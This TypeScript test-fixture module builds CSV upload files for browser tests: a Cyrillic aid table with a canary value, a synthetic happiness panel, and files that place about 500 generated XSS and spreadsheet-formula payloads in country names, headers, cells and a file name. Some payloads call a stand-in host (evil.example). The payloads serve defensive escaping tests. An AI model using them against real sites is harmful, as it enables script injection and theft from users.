/** Files for the browser tests, made here: an awkward aid table, a happiness panel, hostile labels. */
import { encoded } from '../table/encoded';

export interface GivenFile {
	readonly name: string;
	readonly mimeType: string;
	readonly buffer: Buffer;
}

export const given = (name: string, bytes: Uint8Array | string): GivenFile => ({
	name,
	mimeType: 'text/csv',
	buffer: Buffer.from(bytes)
});

const years = Array.from({ length: 10 }, (_, at) => 2009 + at);
const series = (start: number) => years.map((_, at) => (start + at * 0.1).toFixed(2).replace('.', ','));

/** @param canary stands in a name and in a cell, and must never leave the page */
export const aidTable = (canary: string) =>
	given(
		`${canary}.csv`,
		encoded(
			[
				`Источник ; ${canary}`,
				['Страна', 'Показатель', ...years].join(';'),
				...['Казахстан', 'Киргизия', 'Таджикистан', 'Туркменистан', 'Узбекистан', 'Грузия'].map((name, at) =>
					[name, 'Помощь, % ВНД', ...series(at + 1)].join(';')
				),
				['Конго', 'Помощь, % ВНД', ...series(3)].join(';'),
				['Весь мир', 'Помощь, % ВНД', ...series(2)].join(';'),
				[canary, 'Помощь, % ВНД', ...series(2)].join(';')
			].join('\r\n'),
			'windows-1251'
		)
	);

const countries = [
	'Kazakhstan',
	'Kyrgyzstan',
	'Tajikistan',
	'Turkmenistan',
	'Uzbekistan',
	'Georgia',
	'Armenia',
	'Poland',
	'France',
	'Germany'
].concat([
	'Spain',
	'Italy',
	'Greece',
	'Norway',
	'Sweden',
	'Finland',
	'Denmark',
	'Austria',
	'Hungary',
	'Romania',
	'Bulgaria',
	'Serbia',
	'Croatia',
	'Chile',
	'Peru'
]);

/** A panel in the layout of the World Happiness Report: it fills the gap "life satisfaction". */
export const happiness = () =>
	given(
		'happiness.csv',
		[
			'country_name,year,life_ladder',
			...countries.flatMap((name, at) =>
				Array.from(
					{ length: 13 },
					(_, year) =>
						`${name},${2006 + year},${(4 + at / 10 + year * 0.12 + ((at * 7 + year * 3) % 5) / 20).toFixed(3)}`
				)
			)
		].join('\n')
	);

const acts = [
	'hit()',
	'window.hit=1',
	'top.hit()',
	'eval("hit()")',
	'setTimeout(hit)',
	'import("data:text/javascript,hit()")',
	'fetch("//evil.example")',
	'location="javascript:hit()"',
	'document.write(1)',
	'hit`1`'
];
const shapes: readonly ((act: string) => string)[] = [
	(act) => `<script>${act}</script>`,
	(act) => `<img src=x onerror=${act}>`,
	(act) => `<svg onload=${act}>`,
	(act) => `<svg><script>${act}</script></svg>`,
	(act) => `"><script>${act}</script>`,
	(act) => `'><img src=x onerror=${act}>`,
	(act) => `</title><script>${act}</script>`,
	(act) => `</option></select><img src=x onerror=${act}>`,
	(act) => `</textarea><script>${act}</script>`,
	(act) => `<iframe srcdoc="<script>parent.${act}</script>">`,
	(act) => `javascript:${act}`,
	(act) => `" onmouseover="${act}" autofocus onfocus="${act}`,
	(act) => `{@html "<img src=x onerror=${act}>"}`,
	(act) => `\${${act}}`,
	(act) => `{{${act}}}`,
	(act) => `<details open ontoggle=${act}>`,
	(act) => `<video><source onerror=${act}>`,
	(act) => `<body onload=${act}>`,
	(act) => `<style>@import "javascript:${act}"</style>`,
	(act) => `<math><mtext><img src=x onerror=${act}></mtext></math>`,
	(act) => `<a href="javascript:${act}">x</a>`,
	(act) => `<form action="javascript:${act}"><button>x`,
	(act) => `<object data="javascript:${act}">`,
	(act) => `<embed src="javascript:${act}">`,
	(act) => `<base href="javascript:${act}//">`,
	(act) => `<link rel=stylesheet href="javascript:${act}">`,
	(act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
	(act) => `<input autofocus onfocus=${act}>`,
	(act) => `<marquee onstart=${act}>`,
	(act) => `<audio src=x onerror=${act}>`,
	(act) => `]]><script>${act}</script>`,
	(act) => `--><script>${act}</script>`,
	(act) => `\u2028<script>${act}</script>`,
	(act) => `<scr\u0000ipt>${act}</scr\u0000ipt>`,
	(act) => `<SCRIPT>${act}</SCRIPT>`,
	(act) => `&lt;script&gt;${act}&lt;/script&gt;`,
	(act) => `%3Cscript%3E${act}%3C/script%3E`,
	(act) => `<svg><animate onbegin=${act} attributeName=x>`,
	(act) => `<svg><foreignObject><img src=x onerror=${act}></foreignObject></svg>`,
	(act) => `<use href="data:image/svg+xml,<svg onload=${act}>">`,
	(act) => `url("javascript:${act}")`,
	(act) => `expression(${act})`,
	(act) => `=HYPERLINK("javascript:${act}")`,
	(act) => `@SUM(${act})`,
	(act) => `__proto__<img src=x onerror=${act}>`,
	(act) => `constructor[${act}]`,
	(act) => `\u202e<script>${act}</script>`,
	(act) => `<template><script>${act}</script></template>`,
	(act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
	(act) => `<isindex action="javascript:${act}" type=image>`
];

/** Five hundred labels that would run something where a page is careless. */
export const payloads: readonly string[] = shapes.flatMap((shape) => acts.map(shape));

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** The payloads as countries, as headers, as values of a column of series, as cells, as names of files. */
export const hostileFiles = (): readonly GivenFile[] => [
	given(
		'keys.csv',
		[
			'country,year,value',
			...payloads.map((text) => `${quoted(text)},2000,1`),
			'Kazakhstan,2000,1',
			'Kyrgyzstan,2001,2'
		].join('\n')
	),
	given(
		'headers.csv',
		[
			['country', 'year', ...payloads.map(quoted)].join(','),
			['Kazakhstan', '2000', ...payloads.map(() => '1')].join(','),
			['Kyrgyzstan', '2001', ...payloads.map(() => '2')].join(',')
		].join('\n')
	),
	given(
		'series.csv',
		[
			'country,year,indicator,value',
			...payloads
				.slice(0, 190)
				.flatMap((text) => [`Kazakhstan,2000,${quoted(text)},1`, `Kazakhstan,2001,${quoted(text)},2`])
		].join('\n')
	),
	given(
		'cells.csv',
		[
			'country,year,value',
			'Kazakhstan,2000,1',
			...payloads.map((text, at) => `Kazakhstan,${1600 + at},${quoted(text)}`)
		].join('\n')
	),
	given(
		`${payloads[1]?.replaceAll('/', '') ?? ''}.csv`,
		[
			'country,year,<img src=x onerror=hit()>',
			'Kazakhstan,2000,1',
			'Kazakhstan,2001,2',
			'Kyrgyzstan,2000,2'
		].join('\n')
	)
];
